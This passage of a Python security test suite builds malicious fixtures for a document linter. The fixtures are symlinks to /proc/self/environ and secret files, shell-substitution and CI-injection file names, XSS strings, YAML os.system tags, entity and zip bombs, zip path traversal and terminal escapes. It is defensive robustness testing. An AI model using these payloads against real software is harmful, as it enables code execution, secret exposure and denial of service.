    link(folder / "tty.md", "/dev/tty")
    link(folder / "stdin.md", "/dev/stdin")


@case("path-proc", PATHS, [LINT_ALL, [*LINT, "docs/*/environ", "-r", "all.yaml"]], env={"A_TOKEN": SECRET})
def _(folder, outside):
    all_rules(folder)
    link(folder / "environ.md", "/proc/self/environ")
    link(folder / "environ.txt", "/proc/self/environ")
    link(folder / "mem.md", "/proc/self/mem")
    link(folder / "kmsg.md", "/proc/kmsg")
    link(folder / "docs/proc", "/proc/self")
    link(folder / "fd.md", "/proc/self/fd/0")


@case("path-deep-folders", PATHS, [LINT, [*LINT, "**/*.md"], ["checker", "init", ".", "--dry-run"]])
def _(folder, outside):
    """3000 folders deep: longer than PATH_MAX, deeper than Python's recursion."""
    here = os.open(folder, os.O_RDONLY)
    for _ in range(3000):
        os.mkdir("d", dir_fd=here)
        below = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    f = os.open("a.md", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=here)
    os.write(f, DOC.encode())
    os.close(f)
    os.close(here)


def names(name, items, commands=(LINT,), **more):
    def build(folder, outside):
        for i in items:
            raw(folder, i)
    CASES.append(Case(name, PATHS, build, [list(c) for c in commands], **more))


FMT = [[*LINT, "--format", x] for x in ("text", "github", "junit")]
FMT2 = [[*LINT, "--format", x] for x in ("gitlab", "checkstyle", "markdown")]
FMT3 = [[*LINT, "--format", x] for x in ("sarif", "rdjson", "jsonl")]
CONTROL = [b"esc\x1b[31m\x1b]0;t\x07.md", b"new\nline.md", b"cr\rover.md", b"bell\x07.md", b"\x9b31m.md", "c1\u009b31m.md".encode(), b"\x7f.md", b"\x08\x08\x08back.md"]
names("path-names-control", CONTROL, FMT)
names("path-names-control-2", CONTROL, FMT2)
names("path-names-control-3", CONTROL, FMT3)
names("path-names-folder-control", [n[:-3] + b"/x.md" for n in CONTROL], FMT)
names("path-names-bidi", ["report‮dm.cod.md".encode(), "⁦x⁩.md".encode(), "zero​width.md".encode(), "а.md".encode(), "line sep.md".encode(), "\U000e0041tag.md".encode(), "﻿bom.md".encode()], FMT)
names("path-names-invalid-utf8", [b"\xff\xfe.md", b"\xc0\xaf.md", b"\xed\xa0\x80.md", b"caf\xe9.md", b"\x93\xfa\x96{.md", b"d\xff/\xfe.md"], FMT)
names("path-names-invalid-utf8-2", [b"\xff\xfe.md", b"\xc0\xaf.docx", b"d\xff/\xfe.md"], FMT3)
names("path-names-invalid-utf8-html", [b"\xff\xfe.md", b"\xed\xa0\x80.md"], [[*LINT, "--format", "html", "-o", ".r.html"], [*LINT, "--update-baseline"], [*LINT, "--format", "json"]])
names("path-names-options", [b"-o.md", b"--in-place.md", b"--help.md", b"-rall.yaml.md", b"@args.md", b"--.md", b"-.md"], [LINT, ["sh", "-c", "checker lint *.md --no-model"], ["sh", "-c", "checker check --no-model -- *.md"]])
names("path-names-markup", [b"::error file=x::y.md", b"##[command]x.md", b"%0A::warning::x.md", b"<img src=x onerror=alert(1)>.md", b"]]>&<!--.md", b"[x](javascript:alert(1)).md", b"`id`$(id).md", b"a|b.md", b"\"'.md", b"{match}.md", b"{0.__class__}.md", b"%s%n.md", b"${x}.md", b"{{7*7}}.md"], FMT)
names("path-names-markup-2", [b"::error file=x::y.md", b"<script>alert(1)<script>.md", b"]]>&<!--.md", b"[x](javascript:alert(1)).md", b"a|b.md", b"\"'.md", b"{match}.md"],
      [[*LINT, "--format", "markdown"], [*LINT, "--format", "html", "-o", ".r.html"], ["sh", "-c", "cat .r.html"]], must_not_contain=["<script>alert(1)<script>.md"])
names("path-names-255", [b"a" * 252 + b".md", "あ".encode() * 84 + b".md", b"b" * 250 + b".docx", (b"c" * 250 + b"/") * 3 + b"x.md"], [LINT, ["sh", "-c", "checker fix --in-place a*.md"], ["sh", "-c", "checker decisions b*.docx"]])
names("path-names-case-and-unicode-collisions", [b"A.md", b"a.md", b"A.MD", b"a.Md", "が.md".encode(), "か\u3099.md".encode(), b"a.md.", b"a.md ", b"CON.md", b"nul.md", b"a.md:stream.md"], [LINT, [*LINT, "--update-baseline"], LINT])
names("path-names-many", [b"n%d/%d.md" % (i // 500, i) for i in range(2000)], [LINT, ["checker", "init", ".", "--dry-run"]], seconds=40)
names("path-names-workflow-init", [b"docs: {x}/a.md", b"a'b\"c/a.md", b"new\nline: evil/a.md", b"${{ github.token }}/a.md", b"$(touch ran)/a.md", b"\\/a.md"], [["checker", "init", "."], ["checker", "init", "docs: {x}", "--ci", "gitlab"], ["sh", "-c", "checker init '${{ github.token }}' --ci jenkins; cat Jenkinsfile .github/workflows/*"]],
      note="folder names that reach YAML and Groovy files")


@case("path-folder-named-as-document", PATHS, [LINT, ["checker", "check", "a.md", "--no-model"], ["checker", "fix", "b.docx", "--in-place"]])
def _(folder, outside):
    w(folder / "a.md/b.md", DOC)
    w(folder / "b.docx/x.md", DOC)
    w(folder / "a.md/.checkerignore/x", "")
    (folder / ".gitignore").mkdir()
    (folder / ".checkerignore").mkdir()
    (folder / ".checker-baseline.json").mkdir()
    (folder / "a.md.checker.yaml").mkdir()


def support(name, file, make, commands=(LINT, CHECK), **more):
    def build(folder, outside):
        w(folder / "a.md", DOC)
        make(folder / file, outside)
    CASES.append(Case(name, PATHS, build, [list(c) for c in commands], **more))


for _f, _slug in ((".checkerignore", "ignore"), ("a.md.checker.yaml", "sidecar"), (".checker-baseline.json", "baseline")):
    support(f"path-{_slug}-fifo", _f, lambda p, o: os.mkfifo(p))
    support(f"path-{_slug}-zero", _f, lambda p, o: link(p, "/dev/zero"))
    support(f"path-{_slug}-link-to-secret", _f, lambda p, o: link(p, o / "secret.env"))
    support(f"path-{_slug}-sparse", _f, lambda p, o: sparse(p, 4 << 30))
support("path-ignore-bomb", ".checkerignore", lambda p, o: [w(p, "".join("**/" * 200 + "*a*a*a*a*a*a*a*a*b\n" for _ in range(1000)) + "!" * 9999 + "\n/../../outside\n[\n\\\n"), w(p.parent / ("a" * 200 + ".md"), DOC)])
support("path-sidecar-yaml-bomb", "a.md.checker.yaml", lambda p, o: w(p, yaml_bomb()))
support("path-sidecar-tags", "a.md.checker.yaml", lambda p, o: w(p, f"ignore: !!python/object/apply:os.system [\"{run_it(o, 'yaml')}\"]\n"))
support("path-sidecar-odd", "a.md.checker.yaml", lambda p, o: w(p, "ignore:\n  - {rule: \"\\e[31m*\\n::error::x\", reason: \"\\e]0;x\\a\", section: \"(a+)+$\", author: 1979-99-99}\n  - {rule: '" + "*" * 5000 + "', reason: x}\n  - &a [*a]\n"))
support("path-baseline-deep-json", ".checker-baseline.json", lambda p, o: w(p, "[" * 500_000))
support("path-baseline-big-json", ".checker-baseline.json", lambda p, o: big(p, b'{"rule": "x", "file": "a.md", "words": "y", "n": 1e999},\n', 1_000_000, b'{"version": 1, "findings": [', b"{}]}"))
support("path-baseline-odd", ".checker-baseline.json", lambda p, o: w(p, '{"version": 99999999999999999999999, "findings": {"../../outside/victim.txt": [null, NaN, "\\ud800", "\\u001b[31m"]}}'))
support("path-baseline-update-through-link", ".checker-baseline.json", lambda p, o: link(p, o / "victim.txt"), [[*LINT, "--update-baseline"]])
support("path-baseline-update-dangling-link", ".checker-baseline.json", lambda p, o: link(p, o / "new-baseline.json"), [[*LINT, "--update-baseline"]])


@case("path-output-through-links", PATHS, [[*LINT, "--format", "html", "-o", "r.html"], [*LINT, "--format", "sarif", "-o", "new.sarif"], ["checker", "check", "a.docx", "--no-model", "--annotate", "out.docx"]],
      note="the user named -o r.html; the folder made it a link to a file outside")
def _(folder, outside):
    w(folder / "a.md", DOC)
    docx(folder / "a.docx")
    link(folder / "r.html", outside / "victim.txt")
    link(folder / "new.sarif", outside / "new.sarif")
    link(folder / "out.docx", outside / "victim.txt")


@case("path-fix-backup-link", PATHS, [["checker", "fix", "a.md", "--in-place"], ["checker", "fix", "a.docx", "--in-place"], ["checker", "fix", "a.md", "b.md", "--grade", "unsafe", "--patch", "out.patch"]])
def _(folder, outside):
    w(folder / "a.md", FIXABLE)
    w(folder / "b.md", FIXABLE)
    docx(folder / "a.docx", para(FIXABLE))
    for n in ("a.md.bak", "a.docx.bak", "out.patch", "a.md.tmp", ".a.md.tmp", "a.md~", "a.md.new", "a.md.checker.yaml"):
        link(folder / n, outside / "victim.txt")


FIXABLE = "# 週報\n\nのの書類を提出して下さい。ＡＢＣを１２３個、、出す。。\n\nサーバとサーバーを更新する。\n"


@case("path-fix-in-place-link", PATHS, [["checker", "fix", "a.md", "--in-place", "--grade", "unsafe"], ["checker", "fix", "sub/a.md", "--in-place", "--no-backup"], ["checker", "fix", "c.md", "-o", "d.md"]],
      note="a.md is a link to a document outside, sub a link to a folder outside")
def _(folder, outside):
    w(outside / "theirs.md", FIXABLE)
    w(outside / "docs/a.md", FIXABLE)
    link(folder / "a.md", outside / "theirs.md")
    link(folder / "sub", outside / "docs")
    w(folder / "c.md", FIXABLE)
    link(folder / "d.md", outside / "victim.txt")


@case("path-hardlink-in-place", PATHS, [["checker", "fix", "a.md", "--in-place"], [*LINT, "--format", "json", "-o", "r.json"]])
def _(folder, outside):
    w(outside / "theirs.md", FIXABLE)
    os.link(outside / "theirs.md", folder / "a.md")
    os.link(outside / "victim.txt", folder / "r.json")


@case("path-decisions-sidecar-link", PATHS, [["checker", "decisions", "r.docx"], ["checker", "decisions", "r.docx", "--of", "../outside/victim.txt"]])
def _(folder, outside):
    docx(folder / "r.docx", f'<w:p><w:ins w:id="1" w:author="checker" w:date="2025-01-01T00:00:00Z"><w:r><w:t>x</w:t></w:r></w:ins><w:commentRangeStart w:id="0"/><w:r><w:t>本文</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>',
         rels=relation(1, "comments", "comments.xml"), types=override("/word/comments.xml", WORD + "comments+xml"),
         extra={"word/comments.xml": f'{XML}<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="checker">{para("ja-business.date: x")}</w:comment></w:comments>'})
    link(folder / "r.docx.checker.yaml", outside / "victim.txt")


@case("path-init-dangling-links", PATHS, [["checker", "init", ".", "--ci", "github", "--pre-commit"], ["checker", "init", ".", "--ci", "gitlab"], ["checker", "init", ".", "--ci", "jenkins"]])
def _(folder, outside):
    w(folder / "a.md", DOC)
    for n in ("checker.toml", ".checkerignore", ".pre-commit-config.yaml", "Jenkinsfile", ".gitlab-ci.yml"):
        link(folder / n, outside / f"made-{n.strip('.')}")
    (outside / "gh").mkdir()
    link(folder / ".github", outside / "gh")
    link(folder / ".gitlab", outside / "not-there")


@case("path-init-root-above", PATHS, [["checker", "init", "docs"], ["checker", "init", "docs", "--dry-run"]])
def _(folder, outside):
    """docs/.git says that the repository's root is elsewhere."""
    git(outside, "init", "-q")
    w(folder / "docs/a.md", DOC)
    w(folder / "docs/.git", f"gitdir: {outside}/.git\n")


@case("path-permissions", PATHS, [LINT, [*LINT, "--update-baseline"]], note="as root nothing is refused")
def _(folder, outside):
    w(folder / "a.md", DOC, 0o000)
    w(folder / "d/b.md", DOC)
    (folder / "d").chmod(0o000)


@case("path-changes-of-name-in-report", PATHS, [["sh", "-c", "checker lint /proc/self/cwd/./docs/../docs//a.md 'docs/[!x]*.md' '../'*/victim.md --no-model"], [*LINT[:2], "../outside/../outside", "--no-model"], [*LINT[:2], "docs/\x1b[31m*", "--no-model"]])
def _(folder, outside):
    w(folder / "docs/a.md", DOC)


# ================================================================ encodings and sizes

E = "encodings"


def yaml_bomb() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 12):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    return "\n".join(lines) + "\nignore: *a11\nrules: *a11\n"


def docx_bomb(path: Path, mib: int) -> None:
    parts = docx_parts("")
    xml = parts.pop("word/document.xml")
    head, tail = xml.split(b"<w:body>")
    unit = b"<w:p><w:r><w:t>" + b"x" * 200 + b"</w:t></w:r></w:p>"
    data, crc, size = bomb(mib, head + b"<w:body>", unit, tail)
    entries = [{"name": k, **deflated(v)} for k, v in parts.items()]
    entries.append({"name": "word/document.xml", "data": data, "method": 8, "crc": crc, "usize": size})
    raw_zip(path, entries)


def enc(name, files, commands=(LINT,), **more):
    """files: name -> bytes, str or a function of the path."""

    def build(folder, outside):
        for n, data in files.items():
            p = folder / n
            p.parent.mkdir(parents=True, exist_ok=True)
            if callable(data):
                data(p)
            else:
                w(p, data)

    CASES.append(Case(name, E, build, [list(c) for c in commands], **more))


ALL3 = [LINT, CHECK, ["checker", "show", "a.md"]]
enc("enc-many-encodings", {**{f"{c}.{e}": DOC.encode(c, "replace") for c in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "utf-7", "cp037", "cp932", "euc_jp", "iso2022_jp", "hz", "gb18030", "big5", "cp1252", "shift_jisx0213") for e in ("md", "txt", "html")}}, [LINT, [*LINT, "--format", "json"]])
enc("enc-boms", {"a.md": b"\xef\xbb\xbf" * 1000 + DOC.encode(), "b.md": b"\xff\xfe" + b"x", "c.md": b"\xff\xfe\x00\x00" + b"abc", "d.txt": b"\xfe\xff\xd8\x00", "e.md": b"\xef\xbb\xbf", "f.html": b"\xff\xfe" + "<p>x".encode("utf-16-le") + b"\x00"}, ALL3)
enc("enc-nul-and-controls", {"a.md": bytes(range(256)) * 2000, "b.md": b"\0" * 3_000_000, "c.txt": b"x\0" * 100_000, "d.md": (DOC + "\x1b[31m\x1b]0;pwn\x07\x1b[2J\x9b31m\r\x08\x7f" + "\u009b31m\u202e2025年8月1日(木)\u0007").encode()}, ALL3)
enc("enc-escapes-in-text-shown", {"a.md": f"# 週報{ESC}[2J\n\n{ESC}]0;pwned\x07開催日は{ESC}[31m2025年8月1日(木){ESC}[0m{ESC}]8;;http://evil{ESC}\\で\x9b31mある。{ESC}[?1049h\r上書き\x08\n\n{ESC}[32mVerdict: pass{ESC}[0m\n"}, [CHECK, ["checker", "show", "a.md"], ["checker", "fix", "a.md", "--grade", "unsafe"]])
enc("enc-escapes-formats", {"a.md": f"# 週報\n\n開催日は2025年8月1日(木){ESC}[31mである。\n\n2025年8月1日(木)\n::error::pwn\n##vso[task.setvariable]x\n%0A::warning::x\n\nサーバ{ESC}とサーバー。のの\n"}, [[*LINT, "--format", "github"], ["checker", "check", "a.md", "--no-model", "--format", "markdown"], ["checker", "fix", "a.md", "--diff"]])
enc("enc-lone-surrogates", {"a.md": b"# x\n\n\xed\xa0\x80\xed\xb0\x80\xed\xbf\xbf 2025\xe5\xb9\xb48\xe6\x9c\x881\xe6\x97\xa5(\xe6\x9c\xa8)\xed\xa0\x80\n", "b.html": "<p>&#xD800;&#xDFFF;&#1114112;&#x110000;&#0;&#-1;&#99999999999999;2025年8月1日(木)&#xD800;</p>", "c.md": "&#xD800; &#0; &#x110000; 2025年8月1日(木)&#xDC00;\n"},
    [LINT, [*LINT, "--format", "json"], [*LINT, "--format", "html", "-o", ".r.html"]])
enc("enc-one-line-49mb", {"a.md": lambda p: big(p, b"abc de. ", 6_100_000)}, [CHECK])
enc("enc-one-line-49mb-ja", {"a.txt": lambda p: big(p, "長い文。".encode(), 4_000_000)}, [["checker", "check", "a.txt", "--no-model"]])
enc("enc-one-word-20mb", {"a.md": lambda p: big(p, "あ".encode(), 7_000_000), "b.md": lambda p: big(p, b"a", 20_000_000)}, [CHECK, ["checker", "check", "b.md", "--no-model"]])
enc("enc-million-headings", {"a.md": lambda p: big(p, b"# x\n\n", 1_000_000)}, [CHECK])
enc("enc-180k-headings", {"a.md": lambda p: big(p, b"# x\n", 180_000)}, [CHECK, LINT], seconds=60)
enc("enc-million-findings", {"a.md": lambda p: big(p, "2025年8月1日(木)。のの、、\n\n".encode(), 150_000)}, [[*CHECK, "--format", "json", "-o", ".o.json"], [*LINT, "--format", "html", "-o", ".r.html"]], seconds=150)
enc("enc-deep-quotes", {"a.md": b"> " * 50_000 + b"x\n", "b.md": (b">" * 5000 + b" x\n") * 20}, ALL3)
enc("enc-deep-lists", {"a.md": "".join("  " * i + "- x\n" for i in range(3000)), "b.md": "- " * 30_000 + "x\n", "c.md": "1. " * 20_000 + "x\n"}, ALL3)
enc("enc-brackets", {"a.md": "[" * 200_000 + "\n", "b.md": "![" * 50_000 + "](x)\n", "c.md": "[a](" * 50_000, "d.md": "[" * 5000 + "]" * 5000 + "(x)\n", "e.md": "[x]: <" + "(" * 100_000 + "\n"}, [LINT, CHECK, ["checker", "check", "c.md", "--no-model"]], seconds=40)
enc("enc-emphasis", {"a.md": "*a " * 60_000 + "\n", "b.md": "**_`~~" * 30_000 + "\n", "c.md": "a**b" * 50_000 + "c* " * 50_000 + "\n", "d.md": "*a_ " * 50_000 + "\n"}, [LINT, CHECK])
enc("enc-backticks-html", {"a.md": "".join("`" * i + "x" for i in range(1, 3000)) + "\n", "b.md": "<!--" * 60_000 + "\n", "c.md": "<a " * 60_000 + "\n", "d.md": "<?" * 60_000 + "<![CDATA[" * 10_000 + "<!X " * 10_000 + "\n", "e.md": "&" * 200_000 + "\n"}, [LINT, CHECK])
enc("enc-references", {"a.md": "".join(f"[{i}]: x\n" for i in range(30_000)) + "[x]" * 30_000, "b.md": "[^1]: " * 20_000 + "\n\n[^1]: x [^2]\n\n[^2]: y [^1]\n" + "[^1]" * 20_000, "c.md": "[" + "a" * 200_000 + "]: x\n"}, [LINT, CHECK])
enc("enc-wide-table", {"a.md": "|" + "a|" * 30_000 + "\n|" + "-|" * 30_000 + "\n" + "|x\n" * 200, "b.md": "|a|b|\n|-|-|\n" + "|1|2|\n" * 60_000, "c.md": "|" * 200_000 + "\n"}, [LINT, CHECK], seconds=90)
enc("enc-front-matter", {"a.md": "---\n" + "a: {" * 50_000 + "\n---\n" + DOC, "b.md": "---\n" + yaml_bomb() + "---\n" + DOC, "c.md": "---\n!!python/object/apply:os.system [touch ran]\n---\n" + DOC, "d.md": "---\n" * 100_000, "e.md": "---\na: &a [*a]\nb: 0x" + "f" * 100_000 + "\nc: 190:20:30.15e999999999\nd: " + "9" * 100_000 + "\ne: 9999-99-99\n<<: *a\n---\n" + DOC, "f.md": "+++\na=" + "[" * 50_000 + "\n+++\n"}, [LINT, CHECK])
enc("enc-line-ends", {"a.md": "# a\r\r\n\n\r\u2028\u2029\x85\x0b\x0c2025年8月1日(木)\r本文\r\n" * 3000, "b.md": "\r" * 1_000_000, "c.md": "\n" * 3_000_000}, [LINT, CHECK, ["checker", "fix", "a.md", "--in-place"]])
enc("enc-combining", {"a.md": "a" + "\u0301" * 500_000 + "\n", "b.md": "\ufdfa" * 200_000 + "\n", "c.md": ("\u1100" * 1000 + "\u0f71\u0f72" * 1000) * 50 + "\n", "d.md": "👨‍👩‍👧‍👦" * 30_000 + "\n", "e.md": "İßﬃǰ" * 50_000 + "\n"}, [LINT, CHECK])
enc("enc-digits", {"a.md": "# x\n\n" + "9" * 200_000 + "円\n\n" + "1," * 100_000 + "円\n\n" + "99999999999年99月99日(木)\n\n令和" + "9" * 10_000 + "年1月1日\n\n1e" + "9" * 5000 + "\n\n" + "第" + "9" * 6000 + "条\n\n図" + "9" * 6000 + "\n\n|品名|数量|単価|金額|\n|-|-|-|-|\n|a|" + "9" * 5000 + "|" + "9" * 5000 + "|1円|\n|合計|||" + "9" * 5000 + "円|\n\n一" + "〇" * 20_000 + "億円\n\n٣" + "²" * 9999 + "円 ①②" + "㊿" * 99 + "\n\n" + "9" * 5000 + ". x\n\n" + "1." * 50_000 + " x\n"}, ALL3)
enc("enc-regex-fodder", {"a.md": "# x\n\n" + "a@" * 50_000 + "\n\n" + "a." * 50_000 + "@\n\nhttp://" + "a." * 50_000 + "\n\n" + "(" * 50_000 + "\n\n" + "「" * 50_000 + "\n\n" + " " * 200_000 + "x\n\n" + "-" * 100_000 + "x\n\n" + "090-" * 50_000 + "\n\n" + "/" * 100_000 + "\n\n" + "の" * 100_000 + "\n\n" + "the " * 50_000 + "\n\n" + "ABC " * 50_000 + "\n\n" + "、" * 100_000 + "\n\n" + "[" + "x](#" * 30_000 + "\n"}, ALL3)
enc("enc-ignore-comments", {"a.md": "<!-- checker:ignore " * 20_000 + "\n\n" + "<!-- checker:ignore " + "*" * 20_000 + " x -->\n\n<!-- checker:ignore-file ja-business.date -->\n" + "<!-- checker:ignore a,b,c,(a+)+$ \x1b[31m -->\n" * 3000 + DOC}, [LINT, CHECK])
enc("enc-deep-html", {"a.html": "<div>" * 100_000 + "x", "b.html": "<table><tr><td>" * 20_000 + "x", "c.html": "<b><i><a>" * 30_000 + "x</b></i>", "d.html": "<ul><li>" * 20_000, "e.html": "<p>" * 200_000, "f.html": "<svg><math><template>" * 5000}, [LINT, ["checker", "check", "b.html", "--no-model"], ["checker", "show", "c.html"]])
enc("enc-odd-html", {"a.html": "<" * 200_000, "b.html": "<a " + "x=y " * 100_000 + ">", "c.html": "<a " + "x='" * 50_000, "d.html": "<!--" + "-" * 300_000, "e.html": "<table><td colspan=99999999 rowspan=99999999>x<tr><td colspan=-1 rowspan=1e9>y</table>", "f.html": "<script>" * 30_000, "g.html": "<meta charset=utf-7>+ADw-script+AD4- <meta charset='../../x'><meta charset=unicode_escape>\\ud800<meta charset=hex><meta charset=zlib>",
                         "h.html": "<ol start=99999999999999999999><li value=-9e99>x" + "<ol type=i start=99999999><li>y", "i.html": "<img src='file:///dev/zero'><link rel=stylesheet href='http://127.0.0.1:@PORT@/x.css'><iframe src='http://127.0.0.1:@PORT@/'></iframe><base href='http://127.0.0.1:@PORT@/'><object data='file:///etc/passwd'></object><style>@import 'http://127.0.0.1:@PORT@/'</style><meta http-equiv=refresh content='0;url=http://127.0.0.1:@PORT@/'>"},
    [LINT, ["checker", "check", "e.html", "i.html", "--no-model"]], endpoint="record", endpoint_forbidden=True)
enc("enc-md-html-report-script", {"a.md": "# <script>alert(1)</script>\n\n<img src=x onerror=\"alert(2)\">2025年8月1日(木)\n\n[x](javascript:alert(3)) </script><script>alert(4)</script> --><!-- ]]>\n\n`</textarea><svg onload=alert(5)>` 2025年8月1日(木)</script>\n"},
    [["checker", "check", "a.md", "--no-model", "--format", "html", "-o", ".r.html"], ["sh", "-c", "cat .r.html"]], must_not_contain=["<script>alert(", "<img src=x onerror", "<svg onload=alert"])
enc("enc-sparse-files", {"a.md": lambda p: sparse(p, 10 << 40), "b.docx": lambda p: sparse(p, 10 << 30), "c.pdf": lambda p: sparse(p, 200 << 20), "d.txt": lambda p: sparse(p, 49 << 20), "e.xlsx": lambda p: sparse(p, 250 << 20), "f.html": lambda p: sparse(p, 40 << 20)}, [LINT, ["checker", "check", "d.txt", "--no-model"], ["checker", "check", "f.html", "--no-model"]])
enc("zip-bomb-docx-900m", {"a.docx": lambda p: docx_bomb(p, 900)}, [LINT, ["checker", "fix", "a.docx", "--in-place"]])
enc("zip-bomb-docx-under-limits", {"a.docx": lambda p: docx_bomb(p, 45)}, [LINT], note="45 MiB of XML, about 200,000 paragraphs: at the default limits")
enc("zip-bomb-attribute", {"a.docx": lambda p: pack(p, docx_parts(f'<w:p><w:pPr><w:pStyle w:val="{"x" * 60_000_000}"/></w:pPr></w:p>'))}, [LINT])


def lying_zip(p):
    parts = docx_parts(para(DOC))
    data, crc, size = bomb(600, b"<x>", b"<y/>", b"</x>")
    entries = [{"name": k, **deflated(v)} for k, v in parts.items()]
    entries[-1] = {"name": "word/document.xml", "data": data, "method": 8, "crc": crc, "usize": 1000}
    raw_zip(p, entries)


enc("zip-lying-size", {"a.docx": lying_zip, "b.xlsx": lying_zip, "c.odt": lying_zip}, [LINT, ["checker", "show", "a.docx"]])


def overlapping_zip(p):
    """Many central entries share one local entry (Fifield)."""
    data, crc, size = bomb(100, b"", b"<w:p/>", b"")
    base = [{"name": k, **deflated(v)} for k, v in docx_parts(para(DOC)).items()]
    raw_zip(p, base + [{"name": "word/media/0.xml", "data": data, "method": 8, "crc": crc, "usize": size}])
    whole = p.read_bytes()
    at = whole.index(b"word/media/0.xml") - 30
    entries = base + [{"name": "word/media/0.xml", "data": data, "method": 8, "crc": crc, "usize": size}]
    entries += [{"name": f"word/header{i}.xml", "data": b"", "csize": len(data), "method": 8, "crc": crc, "usize": size, "offset": at} for i in range(2000)]
    raw_zip(p, entries)


enc("zip-overlapping", {"a.docx": overlapping_zip}, [LINT])


def traversal_zip(p):
    parts = docx_parts(para(DOC))
    entries = [{"name": k, **deflated(v)} for k, v in parts.items()]
    for n in ("../outside/victim.txt", "../../outside/new.txt", "/tmp/pwned-by-zip.txt", "..\\..\\outside\\victim.txt", "C:\\x", "word/../../x", "\0x", "word/document.xml/", "\x1b[31m", "a" * 60_000):
        entries.append({"name": n, "data": b"PWNED"})
    entries.append({"name": "word/link", "data": b"../../outside/secret.env", "attr": 0o120777 << 16, "made": 3 << 8})
    raw_zip(p, entries)


enc("zip-traversal-names", {"a.docx": traversal_zip, "b.xlsx": traversal_zip, "c.odt": traversal_zip, "d.pptx": traversal_zip}, [LINT, ["checker", "fix", "a.docx", "-o", "o.docx", "--grade", "unsafe"], ["checker", "check", "a.docx", "--no-model", "--annotate", "o2.docx"]])


def duplicate_zip(p):
    parts = docx_parts(para("無害な文。"))
    bad = docx_parts(para(DOC))["word/document.xml"]
    entries = [{"name": k, **deflated(v)} for k, v in parts.items()]
    entries.insert(0, {"name": "word/document.xml", **deflated(bad)})
    entries += [{"name": "WORD/Document.XML", **deflated(bad)}, {"name": "word\\document.xml", **deflated(bad)}, {"name": "word/document.xml", "local_name": "word/other.xml", **deflated(bad)}]
    raw_zip(p, entries)


enc("zip-duplicate-entries", {"a.docx": duplicate_zip, "b.docx": duplicate_zip}, [LINT, ["checker", "fix", "a.docx", "--in-place"]])


def broken_zips(p):
    pack(p, docx_parts(para(DOC)))
    data = p.read_bytes()
    r = random.Random(1)
    d = p.parent
    for i in range(60):
        b = bytearray(data)
        for _ in range(r.randrange(1, 30)):
            b[r.randrange(len(b))] = r.randrange(256)
        (d / f"flip{i}.docx").write_bytes(b)
    for i in range(0, len(data), len(data) // 20):
        (d / f"cut{i}.docx").write_bytes(data[:i])
    (d / "eocd.docx").write_bytes(b"PK\5\6" + b"\xff" * 18)
    (d / "zip64.docx").write_bytes(data[:-22] + b"PK\6\6" + struct.pack("<QHHIIQQQQ", 2**63, 45, 45, 0, 0, 2**63, 2**63, 2**63, 2**63) + b"PK\6\7" + struct.pack("<IQI", 0, 2**63, 1) + b"PK\5\6" + b"\xff" * 16 + b"\0\0")
    (d / "double.docx").write_bytes(data + data)
    (d / "prefix.docx").write_bytes(b"#!/bin/sh\n" * 1000 + data)
    for j, m in enumerate((1, 6, 9, 12, 14, 93, 95, 99, 65535)):
        raw_zip(d / f"method{j}.docx", [{"name": k, **deflated(v), "method": m} for k, v in docx_parts(para(DOC)).items()])
    raw_zip(d / "encrypted.docx", [{"name": k, **deflated(v), "flags": 0x801} for k, v in docx_parts(para(DOC)).items()])
    (d / "ole.docx").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\xff" * 5000)
    (d / "ole-loop.docx").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 0, 0, 4096, 0, 1, 0, 1) + struct.pack("<I", 0) * 109 + struct.pack("<I", 0) * 512)


enc("zip-broken", {"a.docx": broken_zips}, [LINT])


def entity_docs(p):
    d = p.parent
    lol = "<!DOCTYPE x [<!ENTITY a0 \"lollollollol\">" + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12)) + "]>"
    quad = '<!DOCTYPE x [<!ENTITY a "' + "x" * 200_000 + '">]>'
    docx(d / "lol.docx", "<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", doctype=lol)
    docx(d / "quad.docx", "<w:p><w:r><w:t>" + "&a;" * 50_000 + "</w:t></w:r></w:p>", doctype=quad)
    docx(d / "attr.docx", '<w:p><w:pPr><w:pStyle w:val="&a11;"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>', doctype=lol)
    docx(d / "param.docx", para("x"), doctype='<!DOCTYPE x [<!ENTITY % a "<!ENTITY b \'&#37;a;\'>"> %a; %a;]>')
    for kind, parts in (("rels", "_rels/.rels"), ("ct", "[Content_Types].xml"), ("core", "docProps/core.xml"), ("styles", "word/styles.xml")):
        ps = docx_parts(para(DOC), {"docProps/core.xml": "<x/>", "word/styles.xml": f'<w:styles xmlns:w="{W}"/>'})
        body = ps[parts].decode().replace(XML, "")
        ps[parts] = (lol + body.replace("</", "&a11;</", 1)).encode()
        pack(d / f"{kind}.docx", ps)
    pack(d / "lol.xlsx", xlsx_parts("", {"xl/sharedStrings.xml": f'{lol}<sst xmlns="{S}"><si><t>&a11;</t></si></sst>', "xl/worksheets/sheet1.xml": f'{lol}<worksheet xmlns="{S}"><sheetData><row><c t="inlineStr"><is><t>&a11;</t></is></c></row></sheetData></worksheet>'}))
    pack(d / "lol.odt", odt_parts("<text:p>&a11;</text:p>", doctype=lol))
    pack(d / "lol.pptx", pptx_parts([shape("x")], {"ppt/slides/slide1.xml": f'{lol}<p:sld xmlns:p="{P}" xmlns:a="{A}"><p:cSld><p:spTree>{shape("&a11;")}</p:spTree></p:cSld></p:sld>'}))
    w(d / "lol.fodt", lol + f'<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>&a11;</text:p></office:text></office:body></office:document>')
    w(d / "lol.html", lol + "<p>&a11;</p>")


